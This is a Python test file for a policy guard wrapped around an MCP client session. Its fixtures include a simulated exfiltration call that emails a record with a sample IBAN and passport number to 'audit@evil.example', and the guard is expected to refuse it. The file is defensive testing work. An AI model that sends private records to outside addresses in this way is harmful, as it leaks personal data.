"""GuardedClientSession: an embedded `mcp` ClientSession whose call_tool is decided and bound (real server)."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")

from mcp.client.session import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client

from guard.adapters.mcp import GuardedClientSession, list_server_tools
from guard.policy import load_policy
from guard.runtime import Guard

ROOT = Path(__file__).resolve().parents[2]
SERVER = ROOT / "tests" / "fixtures" / "mcp_server.py"
POLICY = ROOT / "tests" / "fixtures" / "mcp_policy.yaml"
ALICE = "Alice Meyer, IBAN DE89370400440532013000, passport C01X00T47"


async def _run(log: Path, guard: Guard) -> tuple[list[Any], GuardedClientSession, list[str]]:
    params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
    async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
        await client.initialize()
        guarded = GuardedClientSession(client, guard.session("embedded"))
        problems = await guarded.check_tools()
        out = [
            await guarded.call_tool("read_inbox", {}),
            await guarded.call_tool("read_record", {"name": "alice"}),
            await guarded.call_tool("send_email", {"to": "audit@evil.example", "subject": "r", "body": ALICE}),
            await guarded.call_tool("read_record", {"name": "bob"}, call_id="llm-call-9"),
        ]
    return out, guarded, problems


def test_guarded_client_session_refuses_exfiltration_and_observes_results(tmp_path: Path) -> None:
    """Catches a wrapper that calls the server for a refused call, skips observing results, or ignores call_id."""
    guard = Guard(load_policy(POLICY), threshold=0.5)
    (inbox, record, exfil, bob), guarded, problems = anyio.run(_run, tmp_path / "log", guard)
    assert problems == []
    assert not inbox.is_error and record.content[0].text == ALICE and not bob.is_error
    assert exfil.is_error and "risk_budget" in exfil.content[0].text
    received = [json.loads(line)["tool"] for line in (tmp_path / "log").read_text().splitlines()]
    assert received == ["read_inbox", "read_record", "read_record"]
    session = guarded.session
    assert {"llm-call-9"} <= session.answered and len(session.answered) == 3
    assert guarded.server_capabilities is not None  # every other attribute is the wrapped session's


def test_check_tools_reports_a_tool_missing_from_the_policy(tmp_path: Path) -> None:
    """Catches a start-up check that does not list the server's tools against the policy."""
    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY.read_text().split("  delete_file:")[0])
    _, _, problems = anyio.run(_run, tmp_path / "log", Guard(load_policy(policy), threshold=0.5))
    assert problems == ["agent tool 'delete_file' is not in policy 'mcp-fixture': calls to it are refused (escalate)"]


def test_list_server_tools_reads_names_and_arguments() -> None:
    """Catches a tools/list reader that loses tools or their argument names."""
    tools = anyio.run(list_server_tools, [sys.executable, str(SERVER)])
    assert {t.name: t.args for t in tools} == {
        "read_record": ("name",),
        "read_inbox": (),
        "send_email": ("to", "subject", "body"),
        "delete_file": ("path",),
    }


def test_guarded_client_session_runs_probes_through_the_client(tmp_path: Path) -> None:
    """Catches a wrapper that skips the probe a `probe` verdict asks for, or runs the call before it."""
    from tests.adapters.test_mcp_relay import ProbeOnce

    guard = Guard(load_policy(POLICY), threshold=0.5, certifier=ProbeOnce())
    log = tmp_path / "log"

    async def go() -> tuple[Any, GuardedClientSession]:
        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            guarded = GuardedClientSession(client, guard.session("probing"))
            return await guarded.call_tool("delete_file", {"path": "old.txt"}), guarded

    result, guarded = anyio.run(go)
    assert not result.is_error and result.content[0].text == "deleted old.txt"
    assert [json.loads(line)["tool"] for line in log.read_text().splitlines()] == ["read_record", "delete_file"]
    assert guarded.last_decision is not None and guarded.last_decision.reason.value == "certified"


def test_guarded_client_session_observes_resources_and_refuses_undeclared(tmp_path: Path) -> None:
    """Catches a wrapper whose read_resource passes through unobserved (the private record read that way is then
    sent) or which reads a resource the policy does not declare."""
    from guard.errors import InputError

    guard = Guard(load_policy(POLICY), threshold=0.5)
    log = tmp_path / "log"

    async def go() -> tuple[str, Any, str]:
        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": str(log)})
        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            guarded = GuardedClientSession(client, guard.session("resources"))
            shown = (await guarded.read_resource("records://alice")).contents[0].text
            sent = await guarded.call_tool("send_email", {"to": "audit@evil.example", "subject": "r", "body": shown})
            try:
                await guarded.read_resource("notes://today")
                refused = "read"
            except InputError as exc:
                refused = str(exc)
            return shown, sent, refused

    shown, sent, refused = anyio.run(go)
    assert shown == ALICE and sent.is_error and "undeclared uri" in refused
    assert not log.exists()  # no tool reached the server


def test_initialize_warns_about_tools_missing_from_the_policy(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Catches a guarded client that starts (``initialize``) without checking the server's tools against the policy."""
    import logging

    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY.read_text().split("  delete_file:")[0])
    guard = Guard(load_policy(policy), threshold=0.5)

    async def start() -> None:
        params = StdioServerParameters(command=sys.executable, args=[str(SERVER)], env={"MCP_FIXTURE_LOG": "/dev/null"})
        async with stdio_client(params) as (read, write), ClientSession(read, write) as client:
            await GuardedClientSession(client, guard.session("s")).initialize()

    with caplog.at_level(logging.WARNING, logger="guard.adapters.mcp"):
        anyio.run(start)
    assert "'delete_file' is not in policy" in caplog.text


CALLBACKS = ROOT / "tests" / "fixtures" / "mcp_callback_server.py"
WRITTEN = "The model wrote: ticket QX-7781-ZZ-4410 is closed."


async def _callbacks(guard: Guard) -> tuple[list[str], dict[str, int], GuardedClientSession]:
    """An embedded client with a sampling and an elicitation callback, wrapped, asking the callback server."""
    from mcp.types import CreateMessageResult, ElicitResult, TextContent

    calls = {"sampling": 0, "elicitation": 0}

    async def sampling(context: Any, params: Any) -> Any:
        calls["sampling"] += 1
        return CreateMessageResult(role="assistant", content=TextContent(type="text", text=WRITTEN), model="m")

    async def elicitation(context: Any, params: Any) -> Any:
        calls["elicitation"] += 1
        return ElicitResult(
            action="accept", content={"reply": params.requested_schema["properties"]["reply"]["default"]}
        )

    params = StdioServerParameters(command=sys.executable, args=[str(CALLBACKS)], env={})
    async with (
        stdio_client(params) as (read, write),
        ClientSession(read, write, sampling_callback=sampling, elicitation_callback=elicitation) as client,
    ):
        guarded = GuardedClientSession(client, guard.session("callbacks"))
        await guarded.initialize()
        texts = [
            (await guarded.call_tool(tool, args)).content[0].text
            for tool, args in (
                ("ask_model", {"prompt": "Summarise.", "context": "none"}),
                ("ask_model", {"prompt": "Summarise.", "context": "thisServer"}),
                ("ask_user", {"question": "Where to?"}),
            )
        ]
    return texts, calls, guarded


@pytest.mark.parametrize("server_requests", ["refuse", "observe"])
def test_an_embedded_clients_callbacks_follow_the_policy(server_requests: str) -> None:
    """The embedder's own sampling and elicitation callbacks answer the server only as ``mcp.server_requests`` says:
    under ``refuse`` (the default) neither is called and the server gets the refusal; under ``observe`` both are,
    a request for the client's context is refused, and the model's text and the human's answer (the server's own
    default) are observed as content before the server gets them, never as user turns.

    Catches a wrapper that leaves the wrapped session's callbacks alone (planted: the ``_guard_callback`` loop
    removed from ``GuardedClientSession.__init__`` -> under ``refuse`` the model and the human are asked, under
    ``observe`` the context request reaches the model and nothing of the answers is observed)."""
    import yaml

    from guard.policy import parse_policy
    from guard.records import RecordKind

    data = yaml.safe_load(POLICY.read_text())
    data["tools"]["ask_model"] = {"kind": "untrusted_source"}
    data["tools"]["ask_user"] = {"kind": "untrusted_source"}
    data["mcp"]["server_requests"] = server_requests
    texts, calls, guarded = anyio.run(_callbacks, Guard(parse_policy(data), threshold=0.5))
    sampled, context, elicited = texts
    records = list(guarded.session.graph.records.values())
    assert not any(r.kind is RecordKind.USER for r in records)
    answers = [r for r in records if r.kind is RecordKind.RESULT and r.call_id is None]
    if server_requests == "refuse":
        assert calls == {"sampling": 0, "elicitation": 0}
        assert sampled.startswith("refused") and elicited.startswith("refused") and "server_requests" in sampled
    else:
        assert calls == {"sampling": 1, "elicitation": 1}
        assert sampled == WRITTEN and elicited == "accepted: audit@evil.example"
        assert context.startswith("refused") and "includeContext" in context
        assert any(WRITTEN in r.text for r in answers) and any('"action": "accept"' in r.text for r in answers)
